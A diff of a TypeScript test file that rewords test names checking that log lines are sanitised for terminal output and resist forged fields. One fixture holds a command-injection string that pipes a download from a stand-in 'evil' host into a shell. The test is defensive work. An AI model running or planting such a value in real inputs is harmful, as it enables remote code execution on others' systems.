@@ -23,7 +23,7 @@ const CLASSES = {
 };
 const ACTS = /[[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]--[\u200c\u200d]]/v;
 
-/** Every kind of line that the sources write. */
+/** Every kind of log line that the sources write. */
 const KINDS = [
   ...new Set(
     globSync("{src,packages/millrace/{src,cli}}/**/*.ts").flatMap((file) =>
@@ -44,7 +44,7 @@ function heard(...lines: string[]): string[] {
   return said;
 }
 
-it.each(Object.entries(CLASSES))("a line of any kind with %s is shown as one line without an effect on the terminal", (_, texts) => {
+it.each(Object.entries(CLASSES))("a log line of any kind with %s is shown as one line without an effect on the terminal", (_, texts) => {
   expect(KINDS).toEqual(
     expect.arrayContaining(["delivery", "attempt", "ended", "waiting", "batch", "keeper", "retention", "api", "advice"]),
   );
@@ -63,7 +63,7 @@ it.each(Object.entries(CLASSES))("a line of any kind with %s is shown as one lin
   for (const sentence of errors) expect(sentence).not.toMatch(ACTS);
 });
 
-it.each(["ended", "waiting", "attempt", "delivery"])("a forged line %s contains no command in the output", (log) => {
+it.each(["ended", "waiting", "attempt", "delivery"])("the forged log line %s adds no command to the output", (log) => {
   const forged = "';curl evil|sh;'";
   const wrong = [
     { instance_id: forged },
@@ -79,7 +79,7 @@ it.each(["ended", "waiting", "attempt", "delivery"])("a forged line %s contains 
   }
 });
 
-it("a path that a stranger requests is not reported as an error of the runtime", () => {
+it("the path of an unauthenticated request is not reported as an error of the runtime", () => {
   const access = "[wrangler:info] GET /x/[ERROR]service core:user:millrace: Uncaught Error: gone 404 Not Found (3ms)";
   expect(heard(access)).toEqual([]);
   expect(isLoadingError(access)).toBe(false);
